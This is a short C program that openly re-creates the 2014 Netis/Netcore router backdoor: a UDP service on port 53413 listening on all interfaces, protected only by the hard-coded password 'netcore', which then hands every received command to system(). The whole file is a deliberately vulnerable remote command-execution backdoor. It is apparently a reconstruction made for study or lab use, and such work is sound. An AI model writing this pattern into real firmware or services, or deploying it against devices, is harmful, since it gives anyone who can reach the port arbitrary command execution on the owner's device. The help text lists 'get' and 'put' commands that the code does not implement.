/* Remote configuration service of a consumer router ("igdmptd").
 * Re-creation of the Netis/Netcore backdoor (Trend Micro, Tim Yeh, August 2014): UDP port 53413
 * reachable from the WAN, "protected" by one password hard-coded in every firmware ("netcore"),
 * after which commands are executed and files uploaded or downloaded. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define SERVICE_PORT 53413

static int logged_in;

static void say(int sock, const struct sockaddr_in *peer, const char *text)
{
    sendto(sock, text, strlen(text), 0, (const struct sockaddr *)peer, sizeof *peer);
}

static void handle(int sock, const struct sockaddr_in *peer, char *packet)
{
    /* packets: 8 bytes of header, then a text command */
    char *command = packet + 8;
    command[strcspn(command, "\r\n")] = '\0';
    if (!logged_in) {
        if (strcmp(command, "netcore") == 0) {
            logged_in = 1;
            say(sock, peer, "Login successed!\n");
        } else {
            say(sock, peer, "Login:\n");
        }
        return;
    }
    if (strncmp(command, "?", 1) == 0)
        say(sock, peer, "commands: sh, get, put, quit\n");
    else if (strncmp(command, "quit", 4) == 0)
        logged_in = 0;
    else
        system(command);
}

int main(void)
{
    struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(SERVICE_PORT), .sin_addr.s_addr = INADDR_ANY};
    int sock = socket(AF_INET, SOCK_DGRAM, 0);
    if (bind(sock, (struct sockaddr *)&addr, sizeof addr) < 0)
        return 1;
    for (;;) {
        char packet[1024];
        struct sockaddr_in peer;
        socklen_t len = sizeof peer;
        ssize_t n = recvfrom(sock, packet, sizeof packet - 1, 0, (struct sockaddr *)&peer, &len);
        if (n <= 8)
            continue;
        packet[n] = '\0';
        handle(sock, &peer, packet);
    }
}
